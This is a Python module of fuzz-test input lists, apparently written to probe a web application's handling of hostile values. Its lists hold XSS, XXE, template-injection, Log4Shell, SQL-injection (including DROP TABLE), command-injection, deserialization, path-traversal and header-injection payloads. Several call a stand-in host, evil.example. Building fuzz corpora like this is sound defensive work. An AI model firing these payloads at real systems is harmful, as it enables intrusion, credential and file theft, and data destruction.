"""What is written down of the hostile texts: grammars have no tables to draw from."""

PLAIN = [
    "", " ", "  a  b  ", "null", "None", "nil", "undefined", "true", "false", "on", "constructor", "__proto__", "toString",
    "__class__", "self", "this", "vs", "all", "any", "none", "*", "?", "#", "&", "=", ";", "+", "!", "@", ",", ":", "|", "~",
    "`", "\\", "\\\\", "'", '"', "''", '""', "'\"", "/", "//", ".", "..", "...", "-", "--", "---", "_", "%", "%%", "%25", "%zz",
    "%u0041", "%0", "%G1", "con", "nul", "aux", "com1.txt", "-rf", "--help", "c:ode", "a=b&c=d", "a&amp;b", "[]", "[a]=1",
    "{}", "()", "<>", "<", ">", "&", "a;b=c", "a\tb", "a\r\nb", "\ufeffa", "\u2028", "\u2029", "\x85", "\x7f", "ab\bc", "\x1b[31m",
    "\x1b]0;x\x07", "\x00", "a\x00b", "\x00" * 100, "\x01\x02\x03", "\uffff", "\ufffe", "\U0010ffff", "\ue000", "\ufdd0", "\ufffd",
    "test", "admin", "root", "versed", "zzzzzzzz", "qwxzjk", "a b c d e f g h i j k l m n o p q r s t u v w x y z", "the", "of the",
]  # fmt: skip
HTML = [
    "<script>alert(1)</script>", '"><script>alert(1)</script>', "'><script>alert(1)</script>", "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script>", "<script\x0b>alert(1)</script>", "<<script>alert(1)//<</script>",
    "<script src=//evil.example/x.js>", "<img src=x onerror=alert(1)>", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="', "x onfocus=alert(1)", "`onload=alert(1)",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>", "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=x>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>", "<object data=javascript:alert(1)>", "<embed src=//evil.example>", "<!--", "-->",
    "<!--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "]]>", "<?xml version='1.0'?>", "<?php phpinfo(); ?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>", "<!ENTITY % x SYSTEM '//evil.example'>", "&xxe;", "&#0;", "&#x80;",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&amp;lt;b&amp;gt;", "&quot;&apos;",
    "\\x3cscript\\x3ealert(1)", "\\u003cscript\\u003e", "＜script＞alert(1)＜/script＞", "<b", "<b x='", "<b>bold</b>", "<template><p>", "</html>",
    "</body></html>x", "<p hidden>", "<dialog open>", "<marquee>x", "<plaintext>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '{"a":"</script><script>alert(1)</script>"}', "<svg><style><img src=x onerror=alert(1)></style>", "<xss style=x:expression(alert(1))>",
    "<img srcset=//evil.example/x>", "<a ping=//evil.example href=/>x</a>", "<button formaction=javascript:alert(1)>x", "<isindex action=x>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:x", "jav&#x09;ascript:alert(1)", "alert`1`", "*/alert(1)/*", "';alert(1)//", '";alert(1)//', "${alert(1)}",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:alert(1))", "![x](//evil.example/x.png)", "[x]: javascript:alert(1)", "<javascript:alert(1)>", "| a | b |\n|---|---|",
    "# heading", "```\ncode", "* * *", "> quote", "1. a\n2. b", "**bold", "[[[[[[[[", "[a](b)[c](d)", "\\[x\\]", "---\ntitle: x\n---", "&nbsp;",
    "[x](<>)", "![](x)" * 40, "*" * 300, "_" * 300, "[" * 300, "> " * 60, "- " * 60, "<details>", "$$x$$", "~~x~~", "^x^", "a|b|c", "`a|b`",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{ 7*'7' }}", "{% if 1 %}x{% endif %}", "{% include '/etc/passwd' %}", "{{config}}", "{{request}}", "{{ settings.SECRET_KEY }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{#x#}", "{{", "}}", "{%", "%}", "{{{x}}}", "<%= 7*7 %>", "<% x %>", "#{7*7}", "*{7*7}",
    "@{7*7}", "[[${7*7}]]", "${{7*7}}", "{{constructor.constructor('x')()}}", "{php}x{/php}", "[#assign x=1]", "$!{x}", "#set($x=1)", "{{x|safe}}",
    "{% raw %}", "{{ self }}", "{{ cycler.__init__.__globals__ }}", "{%print(1)%}", "${jndi:ldap://evil.example/x}", "${env:SECRET_KEY}",
]  # fmt: skip
DATABASES = [
    "' OR 1=1 --", "' OR '1'='1", '" OR ""="', "') OR ('1'='1", "'; DROP TABLE tools_tool; --", "1; SELECT pg_sleep(9) --", "1 UNION SELECT 1,2,3",
    "' UNION SELECT password FROM auth_user --", "admin'--", "' AND 1=CAST((SELECT version()) AS int) --", "'||(SELECT 1)||'", "1'1", "\\' OR 1=1 --",
    "%' LIKE '%", "%", "_", "%_%", "\\%", "\\_", "[a-z]%", "$1", "?", "?1", ":x", "@x", "%s", "%(q)s", "E'\\x41'", "U&'\\0041'", "$$x$$", "$a$x$a$",
    "/* x */", "/*!50000 x */", "--", "; --", "0x414243", "CHR(65)||CHR(66)", "1 AND SLEEP(9)", "RANDOMBLOB(999999999)", "load_extension('x')", "PRAGMA x",
    "ATTACH DATABASE 'x' AS y", "COPY x FROM PROGRAM 'id'", "NULL", "DEFAULT", "a' b", "O'Brien", "tools_tool.slug", "slug__startswith", "tool__published_at",
    # The query languages of full-text search: FTS5 and tsquery.
    '"', '""', '"a', 'a"b', '"a" "b"', '"""', "a*", "*a", "*", "^a", "a^b", "NEAR(a b)", "NEAR(a b, 9999999999)", "a NEAR b", "NEAR", "AND", "OR", "NOT",
    "a AND", "AND a", "a OR OR b", "NOT a", "a NOT", "a AND (b OR", ")", "(", "(((((((a", "names:a", "names : a", "{names text}:a", "-names:a", "- a",
    "+a", "a+b", "a + b", "tools_fts", "rank", "rowid:1", "a & b", "a | b", "!a", "!!a", "a <-> b", "a <9999> b", "a:*", "a:ABCD", "'a':*B", "a \\ b",
    "a' & 'b", "& a", "a &", "<->", ":*", "a:", "''''", "a''b", "\\", "\\\\", "\\'", "english", "to_tsquery('a')", "a b c" * 60, "(a " * 200, "a*" * 200,
    "\"a\"*", "a\0*", "'a", "a'", "a!", "!", "|", "&", "<", "<1>", "a<b", "a:b:c", "a::b",
]  # fmt: skip
COMMANDS = [
    "$(id)", "`id`", "| id", "; id", "&& id", "|| id", "\nid", "$(sleep 9)", "& ping -n 9 127.0.0.1 &", "%0aid", "() { :;}; id", "-oProxyCommand=id",
    "=cmd|' /C calc'!A0", "=1+1", "+1+1", "@SUM(1)", "-1+1", "=HYPERLINK(\"//evil.example\")", "*)(uid=*", "*)(&", "admin)(|(a=*", "' or count(/*)=1 or 'a'='b",
    "<!--#exec cmd=\"id\" -->", "{\"$gt\":\"\"}", "{\"$where\":\"sleep(9)\"}", "[$ne]=1", "a[$regex]=.*", "gopher://127.0.0.1:6379/_x", "*1\r\n$4\r\nPING\r\n",
    "!!python/object/apply:os.system [id]", "cos\nsystem\n(S'id'\ntR.", "O:8:\"stdClass\":0:{}", "rO0ABXQ", "eyJhbGciOiJub25lIn0.e30.", "--\r\n.\r\nQUIT",
]  # fmt: skip
PATHS = [
    "/etc/passwd", "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "..;/", "..%2f..%2fetc%2fpasswd", "..%252f..%252f",
    "..%c0%af", "..%5c", "/./x", "/.//x", "x/..", "x/../y", "./x", "x/.", "file:///etc/passwd", "\\\\evil.example\\share", "C:\\x", "C:x", "~root", "~", "/dev/null",
    "/dev/urandom", "/proc/self/environ", ".env", ".git/config", ".htaccess", "wp-login.php", "index.php", "db.sqlite3", "settings.py", "manage.py", "x.json.md",
    "x.md.json", ".json", ".md", ".png", ".svg", ".atom", "x.", "x..json", "x.json/", "x.json%00.png", "x%00.json", "tools.jsonl.gz/..", "tools-0.xml", "tools-01.xml",
    "tools--1.xml", "tools-999999999.xml", "tools-9999999999", "pages-0", "curated-1e9", "2026-w48", "2026-w00", "2026-w54", "0000-w01", "9999-w53", "２０２６-w48",
    "a" * 40, "0" * 40, "f" * 39, "f" * 40, "F" * 40, "g" * 40, "0" * 32 + "-88", "static/../config/settings.py", "//evil.example", "///evil.example", "/\\evil.example",
    "http:evil.example", "http:/evil.example", ";@evil.example", "@evil.example", "evil.example/", "/%2Fevil.example", "/%09/evil.example",
]  # fmt: skip
FORMATS = [
    "%s%s%s%s%s", "%n%n%n", "%x", "%d", "%p", "%c", "%99999d", "%*s", "%%", "%(x)s", "{0}", "{}", "{x}", "{0.__class__}", "{:>9999}", "{!r}", "$x", "${x}", "\\1", "\\g<0>",
    "\\N{DIGIT ONE}", "\\", "\\n", "\\u0000", "\\ud800", "(a+)+$", "(?:a|aa)+$", "[", "(?P<x>", "a{9999999}", "\r\n", "\r\nSet-Cookie: a=b", "\nLocation: //evil.example",
    "a\r\n\r\n<script>alert(1)</script>", "\u010d\u010aSet-Cookie:a=b", "%0d%0aSet-Cookie:%20a=b", "a: b", "a\vb", "a\fb", "W/\"x\"", "*", "no-cache", "bytes=0-",
    '{"jsonrpc":"2.0"}', '["a"]', '"a"', "{", "[", '{"a":', "[[[[[[[[", "1e5000", '"\\ud800"', "{'a':1}", "/**/", "//", "a=1;b=2", "a, b", "q=0", "gzip;q=0", "br, " * 99,
]  # fmt: skip
URLS = [
    "http://evil.example/", "https://evil.example", "//evil.example/compare/a-vs-b", "http://localhost:8000", "http://localhost:8000/", "http://localhost:8000/compare/",
    "http://localhost:8000/compare/a-vs-b", "http://localhost:8000/compare/a-vs-b/c", "http://localhost:8000/compare/%00", "http://localhost:8000/compare/..%2f",
    "http://localhost:8000@evil.example/compare/a-vs-b", "http://localhost:8000.evil.example/compare/a-vs-b", "http://LOCALHOST:8000/compare/a-vs-b", "http://[::1/",
    "http://[", "http://[::1]:99999/", "http://localhost:99999999/", "http://localhost:-1/", "http://localhost:8000/compare/a-vs-b?x=1#y", "http://localhost:8000//compare/a",
    "http://user:pass@localhost:8000/compare/a-vs-b", "http://localhost:8000/compare/[::", "http://localhost:8000/compare/a;b", "http://１２７.0.0.1/", "http://ⓔvil.example/",
    "ftp://x", "mailto:a@b.example", "tel:1", "blob:x", "about:blank", "ws://x", "http://", "http:///", "://", "http://%", "http://a b/", "http://xn--/", "http://\u2100.example/",
    "/compare/a-vs-b", "/tools/../admin/", "/me?next=//evil.example", "/logout", "javascript://localhost:8000/compare/%0aalert(1)", "http://localhost:8000/compare/\u202e",
]  # fmt: skip
EMOJI = [
    "👩‍👩‍👧‍👦", "🏳️‍🌈", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "👩🏽‍💻", "🇰🇷", "🇦🇦🇦", "🇦", "1️⃣", "#️⃣", "❤️", "❤︎", "👍🏿", "🏿", "👨‍❤️‍💋‍👨", "🐦‍⬛", "😀" * 50, "\u200d👩", "👩\u200d", "🏴\U000e0067",
    "𝕏", "𝒞ℴ𝒹ℯ", "🅰🅱", "ｃｏｄｅ", "ᴄᴏᴅᴇ", "c⃣o⃣d⃣e⃣", "𓀀𓁐", "𝟘𝟙", "🀄", "🧑‍🤝‍🧑", "🫠🫥", "通义千问", "コード書記官", "코드 도우미", "𠮷野家", "مساعد البرمجة", "עוזר הקוד Pro 2",
    "קוד<b>", "ﷺ", "ﷲ", "ǝpoɔ", "Ｔｈｅ", "ⒹⒺⒻ", "ก็็็็็", "ไทย", "தமிழ்", "ქართული", "አማርኛ", "ᚠᛇᚻ", "‱", "…", "¯\\_(ツ)_/¯", "हिन्दी", "Tiếng Việt", "Ελληνικό", "Ассистент",
]  # fmt: skip
# Values that mean something here.
KNOWN = [
    "code-llama-4", "cl4", "cats-vs-dogs", "code-llama-4-vs-mistral-3-small", "developer-tools", "pets", "builder", "builder:3,founder:0",
    "2026-11-05", "points", "ship", "confirmed", "fact", "json", "Code Llama 4", "draft",
]  # fmt: skip
ODD_BYTES = [
    b"\xff" * 500, b"\xfe\xff", b"\xff\xfe", b"\xef\xbb\xbf", b"\xef\xbb\xbf<b>", b"\xf4\x90\x80\x80", b"\xf7\xbf\xbf\xbf", b"\xfc\x80\x80\x80\x80\xaf",
    b"\xed\xa0\xbd\xed\xb8\x80", b"\xed\xb8\x80\xed\xa0\xbd", b"\xc3\x28", b"\xa0\xa1", b"\xe2\x28\xa1", b"\xf0\x28\x8c\xbc", b"a\xffb", b"\xff'\"<", b"<\xff>",
    b"%\xff", b"\xc0\xae\xc0\xae\xc0\xaf", b"\x80" * 200, bytes(range(256)), bytes(range(255, -1, -1)), b"\x1f\x8b\x08\x00", b"\x89PNG\r\n\x1a\n", b"PK\x03\x04",
    b"GIF89a<script>", b"\xd0\xcf\x11\xe0", b"\x00\xff" * 60,
]  # fmt: skip
